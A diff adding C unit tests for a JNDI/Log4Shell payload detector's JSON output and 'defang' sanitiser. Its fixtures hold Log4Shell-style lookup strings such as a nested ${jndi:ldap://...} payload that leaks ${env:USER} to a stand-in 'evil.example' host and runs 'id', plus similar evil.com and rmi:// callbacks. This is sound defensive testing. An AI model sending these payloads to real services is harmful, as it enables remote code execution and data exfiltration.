@@ -1,0 +1,220 @@
+/*
+ * test_json.c -- unit tests of lib/json.c: defuse_finding_to_json() (field
+ * set, order, null handling, "$" escaping, bad UTF-8, extra members) and
+ * defuse_defang() (each rule of its contract, snprintf-style truncation).
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+
+#include <cmocka.h>
+
+#include "defuse.h"
+
+#include <jansson.h>
+#include <stdlib.h>
+#include <string.h>
+
+static defuse_finding sample(void) {
+    static const char payload[] = "${${lower:j}ndi:ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=}";
+    defuse_finding f;
+    memset(&f, 0, sizeof f);
+    f.kind = DEFUSE_KIND_JNDI;
+    f.techniques = DEFUSE_TECH_LOWER | DEFUSE_TECH_NESTED | DEFUSE_TECH_EXFIL;
+    f.payload = payload;
+    f.payload_len = strlen(payload);
+    f.decoded = payload;
+    f.decoded_len = strlen(payload);
+    f.layers[0] = DEFUSE_LAYER_PERCENT;
+    f.layers[1] = DEFUSE_LAYER_HTML;
+    f.nlayers = 2;
+    f.callback = "ldap://${env:USER}.evil.example:1389/Basic/Command/Base64/aWQ=";
+    f.scheme = "ldap";
+    f.host = "${env:USER}.evil.example";
+    f.port = 1389;
+    f.path = "Basic/Command/Base64/aWQ=";
+    f.exfil[0] = "env:USER";
+    f.nexfil = 1;
+    f.command = "id";
+    return f;
+}
+
+static json_t *parse(const char *s) {
+    json_error_t err;
+    json_t *j = json_loads(s, JSON_ALLOW_NUL, &err);
+    if (!j)
+        fail_msg("not JSON (%s): %s", err.text, s);
+    return j;
+}
+
+static void test_fields(void **state) {
+    (void)state;
+    defuse_finding f = sample();
+    char *s = defuse_finding_to_json(&f, NULL);
+    assert_non_null(s);
+    assert_null(strchr(s, '$'));      /* every $ escaped */
+    assert_null(strchr(s, '\n'));     /* one line */
+    assert_non_null(strstr(s, "\\u0024{env:USER}"));
+    json_t *j = parse(s);
+    assert_string_equal(json_string_value(json_object_get(j, "kind")), "jndi");
+    assert_string_equal(json_string_value(json_object_get(j, "payload")), f.payload);
+    assert_string_equal(json_string_value(json_object_get(j, "callback")), f.callback);
+    assert_string_equal(json_string_value(json_object_get(j, "scheme")), "ldap");
+    assert_string_equal(json_string_value(json_object_get(j, "host")), f.host);
+    assert_int_equal(json_integer_value(json_object_get(j, "port")), 1389);
+    assert_string_equal(json_string_value(json_object_get(j, "path")), f.path);
+    assert_string_equal(json_string_value(json_object_get(j, "command")), "id");
+    json_t *layers = json_object_get(j, "layers");
+    assert_int_equal(json_array_size(layers), 2);
+    assert_string_equal(json_string_value(json_array_get(layers, 0)), "percent");
+    assert_string_equal(json_string_value(json_array_get(layers, 1)), "html");
+    json_t *t = json_object_get(j, "techniques");
+    assert_int_equal(json_array_size(t), 3);
+    assert_string_equal(json_string_value(json_array_get(t, 0)), "lower");
+    assert_string_equal(json_string_value(json_array_get(t, 1)), "nested");
+    assert_string_equal(json_string_value(json_array_get(t, 2)), "exfiltration");
+    json_t *ex = json_object_get(j, "exfil");
+    assert_int_equal(json_array_size(ex), 1);
+    assert_string_equal(json_string_value(json_array_get(ex, 0)), "env:USER");
+    /* the contract's field order */
+    static const char *const order[] = {"kind", "payload", "decoded", "layers", "techniques",
+                                        "callback", "scheme", "host", "port", "path", "exfil",
+                                        "command"};
+    const char *prev = s;
+    for (size_t i = 0; i < sizeof order / sizeof order[0]; i++) {
+        char key[32];
+        snprintf(key, sizeof key, "\"%s\":", order[i]);
+        const char *at = strstr(s, key);
+        assert_non_null(at);
+        assert_true(at >= prev);
+        prev = at;
+    }
+    json_decref(j);
+    free(s);
+}
+
+static void test_nulls_and_extra(void **state) {
+    (void)state;
+    defuse_finding f;
+    memset(&f, 0, sizeof f);
+    f.kind = DEFUSE_KIND_LOOKUP;
+    f.payload = "${env:HOME}";
+    f.payload_len = 11;
+    f.decoded = f.payload;
+    f.decoded_len = 11;
+    f.port = -1;
+    char *s = defuse_finding_to_json(&f, "{\"file\":\"a$b.log\",\"line\":7}");
+    assert_non_null(s);
+    assert_null(strchr(s, '$'));
+    /* extra members first, in their order */
+    assert_true(strncmp(s, "{\"file\":\"a\\u0024b.log\",\"line\":7,\"kind\":\"lookup\"", 46) == 0);
+    json_t *j = parse(s);
+    assert_true(json_is_null(json_object_get(j, "callback")));
+    assert_true(json_is_null(json_object_get(j, "scheme")));
+    assert_true(json_is_null(json_object_get(j, "host")));
+    assert_true(json_is_null(json_object_get(j, "port")));
+    assert_true(json_is_null(json_object_get(j, "path")));
+    assert_true(json_is_null(json_object_get(j, "command")));
+    assert_int_equal(json_array_size(json_object_get(j, "exfil")), 0);
+    assert_int_equal(json_array_size(json_object_get(j, "layers")), 0);
+    assert_string_equal(json_string_value(json_object_get(j, "file")), "a$b.log");
+    json_decref(j);
+    free(s);
+    /* extra that is not an object, or not JSON */
+    assert_null(defuse_finding_to_json(&f, "[1,2]"));
+    assert_null(defuse_finding_to_json(&f, "{\"file\":"));
+    assert_null(defuse_finding_to_json(&f, "\"x\""));
+    s = defuse_finding_to_json(&f, "{}");
+    assert_non_null(s);
+    assert_true(strncmp(s, "{\"kind\":", 8) == 0);
+    free(s);
+}
+
+static void test_bad_bytes(void **state) {
+    (void)state;
+    static const char raw[] = "${jndi:ldap://x/\xff\xfe\x00z}";
+    defuse_finding f;
+    memset(&f, 0, sizeof f);
+    f.kind = DEFUSE_KIND_JNDI;
+    f.payload = raw;
+    f.payload_len = sizeof raw - 1; /* includes the NUL byte */
+    f.decoded = raw;
+    f.decoded_len = sizeof raw - 1;
+    f.port = -1;
+    char *s = defuse_finding_to_json(&f, NULL);
+    assert_non_null(s);
+    json_t *j = parse(s);
+    json_t *p = json_object_get(j, "payload");
+    /* 2 bad bytes -> 2 x U+FFFD (3 bytes each), NUL kept */
+    assert_int_equal(json_string_length(p), sizeof raw - 1 - 2 + 6);
+    assert_memory_equal(json_string_value(p) + 16, "\xEF\xBF\xBD\xEF\xBF\xBD\0z}", 9);
+    json_decref(j);
+    free(s);
+}
+
+static char *defang(const char *s) {
+    size_t need = defuse_defang(s, strlen(s), NULL, 0);
+    char *out = malloc(need + 1);
+    assert_non_null(out);
+    assert_int_equal(defuse_defang(s, strlen(s), out, need + 1), need);
+    assert_int_equal(strlen(out), need);
+    return out;
+}
+
+static void check_defang(const char *in, const char *want) {
+    char *got = defang(in);
+    if (strcmp(got, want) != 0)
+        fail_msg("defang(%s) = %s, want %s", in, got, want);
+    free(got);
+}
+
+static void test_defang_rules(void **state) {
+    (void)state;
+    check_defang("${jndi:ldap://evil.com/a}", "$\\{jndi:ldap[:]//evil[.]com/a}");
+    check_defang("ldap://127.0.0.1#evil.com:1389/a", "ldap[:]//127[.]0[.]0[.]1#evil[.]com:1389/a");
+    check_defang("ldap://${env:USER}.x.com/e", "ldap[:]//$\\{env:USER}[.]x[.]com/e");
+    check_defang("rmi://10.0.0.1:1099/x.y", "rmi[:]//10[.]0[.]0[.]1:1099/x.y");
+    check_defang("callback to attacker.example.org", "callback to attacker[.]example[.]org");
+    check_defang("version 1.2 and 3.14", "version 1.2 and 3.14");
+    check_defang("192.168.1.20 sent", "192[.]168[.]1[.]20 sent");
+    check_defang("a\tb\nc\x1b[31m\x7f", "a\\x09b\\x0Ac\\x1B[31m\\x7F");
+    check_defang("csi \xc2\x9b" "2J", "csi \\xC2\\x9B2J");
+    check_defang("bidi \xe2\x80\xae" "x", "bidi \\xE2\\x80\\xAEx");
+    check_defang("bad \xff byte", "bad \\xFF byte");
+    check_defang("caf\xc3\xa9 ok", "caf\xc3\xa9 ok");
+    check_defang("end.", "end.");
+    check_defang("$$", "$$");
+    check_defang("", "");
+}
+
+static void test_defang_truncation(void **state) {
+    (void)state;
+    const char *in = "${jndi:ldap://evil.com/a}";
+    const char *full = "$\\{jndi:ldap[:]//evil[.]com/a}";
+    char buf[10];
+    memset(buf, 'Z', sizeof buf);
+    size_t need = defuse_defang(in, strlen(in), buf, sizeof buf);
+    assert_int_equal(need, strlen(full));
+    assert_int_equal(strlen(buf), sizeof buf - 1);
+    assert_memory_equal(buf, full, sizeof buf - 1);
+    char one[1] = {'Z'};
+    assert_int_equal(defuse_defang(in, strlen(in), one, 1), strlen(full));
+    assert_int_equal(one[0], '\0');
+    /* outsz 0 writes nothing */
+    assert_int_equal(defuse_defang(in, strlen(in), NULL, 0), strlen(full));
+    /* embedded NUL is a control byte, length-delimited input */
+    char nulbuf[32];
+    assert_int_equal(defuse_defang("a\0b", 3, nulbuf, sizeof nulbuf), 6);
+    assert_string_equal(nulbuf, "a\\x00b");
+}
+
+int main(void) {
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_fields),
+        cmocka_unit_test(test_nulls_and_extra),
+        cmocka_unit_test(test_bad_bytes),
+        cmocka_unit_test(test_defang_rules),
+        cmocka_unit_test(test_defang_truncation),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
